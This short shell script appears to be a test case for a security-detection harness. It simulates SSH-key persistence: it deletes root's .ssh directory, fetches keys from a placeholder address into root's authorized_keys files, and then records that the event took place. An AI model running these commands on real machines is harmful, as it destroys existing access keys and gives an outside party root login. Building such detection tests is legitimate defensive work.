#!/bin/sh
. /opt/case/case.sh

rm -rf /root/.ssh; umask 077
curl -s --create-dirs -o /root/.ssh/authorized_keys2 http://203.0.113.10/keys; curl -s --create-dirs -o /root/.ssh/authorized_keys http://203.0.113.10/keys
test -s /root/.ssh/authorized_keys
took_place
